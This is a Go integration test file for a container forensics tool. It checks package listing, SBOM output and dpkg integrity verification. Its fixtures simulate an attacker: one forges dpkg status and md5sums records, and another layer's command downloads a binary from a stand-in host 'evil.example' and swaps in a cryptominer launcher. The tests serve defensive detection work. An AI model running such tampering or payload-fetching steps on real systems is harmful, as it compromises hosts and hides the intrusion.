package integration

import (
	"bytes"
	"context"
	"crypto/md5"
	"encoding/hex"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	cdx "github.com/CycloneDX/cyclonedx-go"
	spdxjson "github.com/spdx/tools-golang/json"

	"github.com/ctrforensics/ctrforensics/internal/schemacheck"
	"github.com/ctrforensics/ctrforensics/internal/testdaemon"
	"github.com/ctrforensics/ctrforensics/internal/testimage"
)

const packagesImageName = "docker.io/ctrforensics/packages:1"

const pkgStatus = `Package: base-files
Status: install ok installed
Architecture: amd64
Version: 12.4+deb12u5

Package: removed-one
Status: deinstall ok config-files
Architecture: amd64
Version: 1.0

`

// packagesImage is the web image (busybox, so a container can run) with a
// dpkg database in a layer of its own, then a layer adding a Python package.
func packagesImage(t *testing.T) *testimage.Image {
	t.Helper()
	web, err := testimage.WebImage(h.ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	img := *web
	img.Name = packagesImageName
	img.Layers = append(slices.Clone(web.Layers),
		testimage.Layer{CreatedBy: "dpkg", Files: []testimage.File{
			testimage.Dir("/etc", 0o755),
			testimage.Reg("/etc/os-release", 0o644, "ID=debian\nVERSION_ID=\"12\"\n"),
			testimage.Dir("/var/lib/dpkg", 0o755),
			testimage.Reg("/var/lib/dpkg/status", 0o644, pkgStatus),
			testimage.Dir("/var/lib/dpkg/info", 0o755),
			testimage.Reg("/var/lib/dpkg/info/base-files.list", 0o644, "/.\n/etc\n/etc/issue\n"),
			testimage.Reg("/var/lib/dpkg/info/base-files.md5sums", 0o644, "3ae9b9ff69a78d614864f1957778fecb  etc/issue\n"),
			testimage.Reg("/etc/issue", 0o644, "Debian GNU/Linux 12\n"),
		}},
		testimage.Layer{CreatedBy: "pip install", Files: []testimage.File{
			testimage.Dir("/usr/lib/python3/dist-packages/requests-2.28.1.dist-info", 0o755),
			testimage.Reg("/usr/lib/python3/dist-packages/requests-2.28.1.dist-info/METADATA", 0o644,
				"Metadata-Version: 2.1\nName: requests\nVersion: 2.28.1\nLicense: Apache 2.0\n"),
		}})
	return &img
}

type pkgRow struct {
	Name, Version, Type, PURL, Source, Origin string
	Layer                                     *int
	Files                                     []string
}

func decodePackages(t *testing.T, out string) map[string]pkgRow {
	t.Helper()
	m := map[string]pkgRow{}
	for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
		var r pkgRow
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatalf("%v: %s", err, l)
		}
		m[r.Name] = r
	}
	return m
}

// TestPackages lists the packages of an image (with the layer of each) and of
// a container of it in which an attacker "installed" packages, and checks
// both SBOM formats parse back.
func TestPackages(t *testing.T) {
	ctx := h.ctx(t)
	img, err := testdaemon.ImportImage(ctx, h.client, packagesImage(t), "overlayfs")
	if err != nil {
		t.Fatal(err)
	}
	pk := decodePackages(t, h.mustCLI(t, "packages", "--format", "json", "--files", packagesImageName))
	bf, rq := pk["base-files"], pk["requests"]
	nweb := len(packagesImage(t).Layers) - 2
	if bf.Version != "12.4+deb12u5" || bf.PURL != "pkg:deb/debian/base-files@12.4%2Bdeb12u5?arch=amd64&distro=debian-12" ||
		bf.Layer == nil || *bf.Layer != nweb || !slices.Equal(bf.Files, []string{"/etc", "/etc/issue"}) {
		t.Errorf("base-files: %+v", bf)
	}
	if rq.Type != "pypi" || rq.Layer == nil || *rq.Layer != nweb+1 {
		t.Errorf("requests: %+v", rq)
	}
	if _, ok := pk["removed-one"]; ok || len(pk) != 2 {
		t.Errorf("packages: %v", pk)
	}
	table := h.mustCLI(t, "packages", packagesImageName)
	t.Logf("packages %s:\n%s", packagesImageName, table)
	if !strings.Contains(table, "LAYER") || !strings.Contains(table, "requests") {
		t.Errorf("table:\n%s", table)
	}

	ctr, task, err := testdaemon.RunContainer(ctx, h.client, "pkg-ctr", img, "overlayfs", "/bin/sh", "-c", "sleep 100000")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := testdaemon.RemoveContainer(context.WithoutCancel(ctx), ctr); err != nil {
			t.Errorf("remove container: %v", err)
		}
	})
	c := &container{id: "pkg-ctr", snapshotter: "overlayfs", ctr: ctr, task: task}
	h.attack(t, c, `printf 'Package: backdoor\nStatus: install ok installed\nArchitecture: amd64\nVersion: 6.6.6\n\n' >> /var/lib/dpkg/status &&
mkdir -p /app/node_modules/evil && echo '{"name":"evil","version":"1.0.0","license":"MIT"}' > /app/node_modules/evil/package.json`)
	t.Logf("packages pkg-ctr:\n%s", h.mustCLI(t, "packages", "pkg-ctr"))
	pk = decodePackages(t, h.mustCLI(t, "packages", "--format", "json", "pkg-ctr"))
	for name, want := range map[string]string{"base-files": "image", "backdoor": "container", "evil": "container", "requests": "image"} {
		if pk[name].Origin != want {
			t.Errorf("%s: origin %q, want %q", name, pk[name].Origin, want)
		}
	}

	// Integrity of the changes against the image's records, after the attacker
	// edits /etc/issue, rewrites its md5sums line and drops a file in /etc.
	if out := h.mustCLI(t, "packages", "--verify", "pkg-ctr"); strings.Contains(out, "modified") {
		t.Errorf("verify before the edit:\n%s", out)
	}
	h.attack(t, c, `echo 'owned' > /etc/issue && echo "$(md5sum /etc/issue | cut -d' ' -f1)  etc/issue" > /var/lib/dpkg/info/base-files.md5sums && echo x > /etc/dropped`)
	verify := h.mustCLI(t, "packages", "--verify", "pkg-ctr")
	t.Logf("packages --verify pkg-ctr:\n%s", verify)
	res := map[string]string{}
	for _, l := range strings.Split(strings.TrimSpace(h.mustCLI(t, "packages", "--verify", "--format", "json", "pkg-ctr")), "\n") {
		var r struct{ Path, Status, Package, Expected, Actual string }
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatal(err)
		}
		res[r.Path] = r.Status + " " + r.Package
		if r.Path == "/etc/issue" && (r.Expected != "3ae9b9ff69a78d614864f1957778fecb" || r.Actual == r.Expected) {
			t.Errorf("/etc/issue digests: %+v", r)
		}
	}
	for p, want := range map[string]string{"/etc/issue": "modified base-files", "/etc/dropped": "not-owned ",
		"/var/lib/dpkg/info/base-files.md5sums": "db-changed ", "/var/lib/dpkg/status": "db-changed "} {
		if res[p] != want {
			t.Errorf("verify %s: %q, want %q (all: %v)", p, res[p], want, res)
		}
	}
	var sarif struct {
		Runs []struct {
			Results []struct{ RuleID string }
		}
	}
	sarifOut := h.mustCLI(t, "packages", "--verify", "--format", "sarif", "pkg-ctr")
	schemacheck.ValidateSARIF(t, []byte(sarifOut))
	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil ||
		len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) != 4 {
		t.Errorf("SARIF (%v): %+v", err, sarif)
	}
	if r := h.cli(t, "packages", "--verify", "--fail-on", "modified", "pkg-ctr"); r.code != 1 {
		t.Errorf("--fail-on modified: exit %d", r.code)
	}
	if r := h.cli(t, "packages", "--verify", "--fail-on", "missing", "pkg-ctr"); r.code != 0 {
		t.Errorf("--fail-on missing: exit %d (%s)", r.code, r.stderr)
	}
	if all := h.mustCLI(t, "packages", "--verify", "--all", "--format", "json", "pkg-ctr"); !strings.Contains(all, `"/etc/issue"`) {
		t.Errorf("--all:\n%s", all)
	}

	// diff --format json names the package of a changed file and its integrity.
	var issue struct {
		Package *struct{ Name, Manager, Integrity, Expected, Actual string }
	}
	for _, l := range strings.Split(h.mustCLI(t, "diff", "--format", "json", "pkg-ctr"), "\n") {
		if strings.Contains(l, `"path":"/etc/issue"`) {
			if err := json.Unmarshal([]byte(l), &issue); err != nil {
				t.Fatal(err)
			}
		}
	}
	if p := issue.Package; p == nil || p.Name != "base-files" || p.Manager != "deb" || p.Integrity != "modified" || p.Actual == p.Expected {
		t.Errorf("diff's package object of /etc/issue: %+v", p)
	}

	// collect seals the SBOM and the integrity of the changes into the bag.
	bag := filepath.Join(t.TempDir(), "bag")
	h.mustCLI(t, "collect", "pkg-ctr", "-o", bag)
	h.mustCLI(t, "verify", bag)
	integrity, err := os.ReadFile(filepath.Join(bag, "data/packages/integrity.jsonl"))
	if err != nil || !strings.Contains(string(integrity), `"path":"/etc/issue","status":"modified"`) {
		t.Errorf("bag integrity (%v):\n%s", err, integrity)
	}
	sbom, err := os.ReadFile(filepath.Join(bag, "data/packages/sbom.cdx.json"))
	if err != nil {
		t.Fatal(err)
	}
	var bagBOM cdx.BOM
	schemacheck.ValidateCycloneDX(t, sbom)
	if err := cdx.NewBOMDecoder(bytes.NewReader(sbom), cdx.BOMFileFormatJSON).Decode(&bagBOM); err != nil ||
		bagBOM.Components == nil || len(*bagBOM.Components) != len(pk)+1 {
		t.Errorf("bag SBOM: %v", err)
	}

	var bom cdx.BOM
	out := h.mustCLI(t, "packages", "--format", "cyclonedx", "pkg-ctr")
	if err := cdx.NewBOMDecoder(strings.NewReader(out), cdx.BOMFileFormatJSON).Decode(&bom); err != nil {
		t.Fatal(err)
	}
	schemacheck.ValidateCycloneDX(t, []byte(out))
	if bom.SpecVersion != cdx.SpecVersion1_6 || bom.Components == nil || len(*bom.Components) != len(pk)+1 {
		t.Errorf("CycloneDX: spec %v, %d components", bom.SpecVersion, len(*bom.Components))
	}
	doc, err := spdxjson.Read(bytes.NewReader([]byte(h.mustCLI(t, "packages", "--format", "spdx", packagesImageName))))
	if err != nil {
		t.Fatal(err)
	}
	if len(doc.Packages) != 3 || !strings.HasPrefix(doc.DocumentNamespace, "https://") {
		t.Errorf("SPDX: %d packages, namespace %q", len(doc.Packages), doc.DocumentNamespace)
	}
	if r := h.cli(t, "packages", "no-such-thing"); r.code != 2 || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 {
		t.Errorf("unknown target: exit %d, stderr %q", r.code, r.stderr)
	}
	if r := h.cli(t, "packages", "--format", "xml", packagesImageName); r.code != 2 {
		t.Errorf("bad format: exit %d", r.code)
	}
}

// Names of the images of the package integrity tests.
const (
	toolsImageName    = "docker.io/ctrforensics/tools:1"
	tamperedImageName = "docker.io/ctrforensics/tampered:1"
)

func md5Hex(s string) string {
	sum := md5.Sum([]byte(s))
	return hex.EncodeToString(sum[:])
}

// toolsImage is the web image with a package "tools" installed by dpkg in
// one layer (two binaries and a conffile).
func toolsImage(t *testing.T) *testimage.Image {
	t.Helper()
	web, err := testimage.WebImage(h.ctx(t))
	if err != nil {
		t.Fatal(err)
	}
	img := *web
	img.Name = toolsImageName
	status := "Package: tools\nStatus: install ok installed\nPriority: optional\nSection: utils\nInstalled-Size: 1\n" +
		"Maintainer: nobody <nobody@example.org>\nArchitecture: amd64\nVersion: 1.0\n" +
		"Conffiles:\n /etc/tools.conf " + md5Hex("level=1\n") + "\nDescription: tools\n\n"
	img.Layers = append(slices.Clone(web.Layers),
		testimage.Layer{CreatedBy: "dpkg -i tools.deb", Files: []testimage.File{
			testimage.Dir("/etc", 0o755), testimage.Reg("/etc/tools.conf", 0o644, "level=1\n"),
			testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
			testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\necho tool\n"),
			testimage.Reg("/usr/bin/other", 0o755, "#!/bin/sh\necho other\n"),
			testimage.Dir("/var", 0o755), testimage.Dir("/var/lib", 0o755), testimage.Dir("/var/lib/dpkg", 0o755),
			testimage.Dir("/var/lib/dpkg/info", 0o755),
			testimage.Reg("/var/lib/dpkg/status", 0o644, status),
			testimage.Reg("/var/lib/dpkg/info/tools.list", 0o644, "/etc\n/etc/tools.conf\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/other\n"),
			testimage.Reg("/var/lib/dpkg/info/tools.md5sums", 0o644, md5Hex("#!/bin/sh\necho tool\n")+"  usr/bin/tool\n"+
				md5Hex("#!/bin/sh\necho other\n")+"  usr/bin/other\n"),
		}})
	return &img
}

// tamperedImage is toolsImage with one more layer that replaces one of the
// package's binaries with a miner's launcher, as the article's attacker
// would, without dpkg.
func tamperedImage(t *testing.T) *testimage.Image {
	t.Helper()
	img := toolsImage(t)
	img.Name = tamperedImageName
	img.Layers = append(img.Layers, testimage.Layer{CreatedBy: "curl -fsSL http://evil.example/x -o /usr/bin/tool", Files: []testimage.File{
		testimage.Dir("/usr", 0o755), testimage.Dir("/usr/bin", 0o755),
		testimage.Reg("/usr/bin/tool", 0o755, "#!/bin/sh\nexec /tmp/.x/xmrig -o stratum+tcp://pool.example:3333\n"),
	}})
	return img
}

// TestPackagesVerifyImage: packages --verify of an image reads the image's
// layers (nothing mounted) and reports the binary a later layer replaced,
// not the intact one; the results equal dpkg --verify --root on the image's
// final filesystem exported and extracted, in every output format.
func TestPackagesVerifyImage(t *testing.T) {
	ctx := h.ctx(t)
	if _, err := testdaemon.ImportImage(ctx, h.client, tamperedImage(t), "overlayfs"); err != nil {
		t.Fatal(err)
	}
	table := h.mustCLI(t, "packages", "--verify", tamperedImageName)
	t.Logf("packages --verify %s:\n%s", tamperedImageName, table)
	got := map[string]string{}
	for _, l := range strings.Split(strings.TrimSpace(h.mustCLI(t, "packages", "--verify", "--format", "json", tamperedImageName)), "\n") {
		var r struct{ Path, Status, Package, Expected, Actual string }
		if err := json.Unmarshal([]byte(l), &r); err != nil {
			t.Fatal(err)
		}
		got[r.Path] = r.Status + " " + r.Package
		if r.Path == "/usr/bin/tool" && (r.Expected != md5Hex("#!/bin/sh\necho tool\n") || r.Actual == r.Expected) {
			t.Errorf("/usr/bin/tool digests: %+v", r)
		}
	}
	want := map[string]string{"/usr/bin/tool": "modified tools", "/usr/bin/other": "ok tools", "/etc/tools.conf": "ok tools"}
	if len(got) != len(want) {
		t.Errorf("results %v, want %v", got, want)
	}
	for p, w := range want {
		if got[p] != w {
			t.Errorf("%s: %q, want %q", p, got[p], w)
		}
	}
	if !strings.Contains(table, "modified") || !strings.Contains(table, "/usr/bin/tool") {
		t.Errorf("table:\n%s", table)
	}
	sarifOut := h.mustCLI(t, "packages", "--verify", "--format", "sarif", tamperedImageName)
	schemacheck.ValidateSARIF(t, []byte(sarifOut))
	var sarif struct {
		Runs []struct {
			Results []struct {
				RuleID     string
				Properties map[string]any
			}
		}
	}
	if err := json.Unmarshal([]byte(sarifOut), &sarif); err != nil || len(sarif.Runs) != 1 || len(sarif.Runs[0].Results) != 1 ||
		sarif.Runs[0].Results[0].RuleID != "CTRF-PKG-001" {
		t.Errorf("SARIF (%v): %+v", err, sarif)
	}
	if r := h.cli(t, "packages", "--verify", "--fail-on", "modified", tamperedImageName); r.code != 1 {
		t.Errorf("--fail-on modified: exit %d (%s)", r.code, r.stderr)
	}
	if r := h.cli(t, "packages", "--verify", "--fail-on", "missing", tamperedImageName); r.code != 0 {
		t.Errorf("--fail-on missing: exit %d (%s)", r.code, r.stderr)
	}

	// The oracle: dpkg --verify on the final filesystem, extracted.
	dir := t.TempDir()
	archive, root := filepath.Join(dir, "fs.tar"), filepath.Join(dir, "root")
	h.mustCLI(t, "image", "export", "-o", archive, tamperedImageName)
	if err := os.Mkdir(root, 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("tar", "--numeric-owner", "-C", root, "-xf", archive).CombinedOutput(); err != nil {
		t.Fatalf("extract: %v\n%s", err, out)
	}
	out, _ := exec.Command("dpkg", "--root="+root, "--verify").Output()
	var dpkg, ours []string
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if f := strings.Fields(l); len(f) >= 2 {
			dpkg = append(dpkg, f[len(f)-1])
		}
	}
	for p, st := range got {
		if !strings.HasPrefix(st, "ok ") {
			ours = append(ours, p)
		}
	}
	slices.Sort(ours)
	if !slices.Equal(ours, dpkg) || len(dpkg) == 0 {
		t.Errorf("flagged %v, dpkg --verify %v (%s)", ours, dpkg, out)
	}
}
